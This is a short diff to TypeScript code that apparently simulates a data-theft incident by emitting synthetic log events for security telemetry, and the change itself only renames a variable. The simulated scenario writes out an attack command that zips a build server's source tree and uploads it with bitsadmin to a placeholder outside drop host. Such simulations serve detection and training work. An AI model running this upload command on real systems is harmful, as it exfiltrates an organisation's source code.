@@ -22,16 +22,16 @@ export function exfiltration(journal: Journal, files: Machine, shell: Proc, buil
     for (let i = 0; i < 12; i++) reach(files, copy, at("14:33:01") + i * 14_000, { ...OUTSIDE.drop, port: 443 });
     stop(files, copy, at("14:36:10"));
 
-    const console = openConsole(build, remote, "C:\\Windows\\system32\\cmd.exe", at("14:37:30"));
+    const prompt = openConsole(build, remote, "C:\\Windows\\system32\\cmd.exe", at("14:37:30"));
     const zip = `a ${STAGE}\\src.zip C:\\BuildAgent\\work\\mill\\src`;
-    const packer = start(build, console, PROGRAMS.sevenZip, `"${PROGRAMS.sevenZip.path}" ${zip}`, at("14:37:41"));
+    const packer = start(build, prompt, PROGRAMS.sevenZip, `"${PROGRAMS.sevenZip.path}" ${zip}`, at("14:37:41"));
     fileCreated(build, packer, at("14:37:42"), `${STAGE}\\src.zip`);
     stop(build, packer, at("14:38:05"));
     const send = `bitsadmin /transfer weft /upload /priority high http://${OUTSIDE.drop.ip}/in/src.zip ${STAGE}\\src.zip`;
-    run(build, console, PROGRAMS.bitsadmin, send, at("14:38:30"), 45_000);
+    run(build, prompt, PROGRAMS.bitsadmin, send, at("14:38:30"), 45_000);
     serviceState(build, at("14:38:31"), "Background Intelligent Transfer Service", "running");
     reach(build, build.proc("netsvcs"), at("14:38:33"), { ip: OUTSIDE.drop.ip, port: 80 });
-    stop(build, console, at("14:40:00"));
+    stop(build, prompt, at("14:40:00"));
   });
 }
 
